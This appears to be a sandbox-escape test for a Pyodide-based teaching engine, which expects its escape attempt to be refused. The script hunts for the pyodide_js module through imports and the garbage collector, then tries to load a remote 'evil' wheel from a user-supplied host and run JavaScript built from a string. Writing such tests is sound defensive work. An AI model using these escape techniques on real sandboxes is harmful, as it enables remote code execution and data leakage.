# A lesson that tries to escape through `pyodide_js`, the interpreter's JavaScript API: to
# load code from elsewhere, or to compile JavaScript from a string. The engine refuses the
# import, and no module the interpreter holds keeps a reference to it.
# expect-outcome: raised
# expect-message: ImportError: pyodide_js is out of reach
import gc
import types


def reach(name):
    """The module, by import or, refused that, by digging through the garbage collector."""
    try:
        return __import__(name)
    except ImportError:
        print("blocked: import", name)
    for module in [o for o in gc.get_objects() if isinstance(o, types.ModuleType)]:
        if module.__name__ == name:
            print("reached", name, "through the garbage collector")
            return module
        value = vars(module).get(name)
        if value is not None:
            print("reached", name, "through", module.__name__)
            return value
    raise ImportError(f"{name} is out of reach")


pyodide_js = reach("pyodide_js")
pyodide_js.loadPackage(input().strip() + "/evil-0.1-py3-none-any.whl")
print("LEAKED", pyodide_js.runPython.constructor("return self.location.href")())
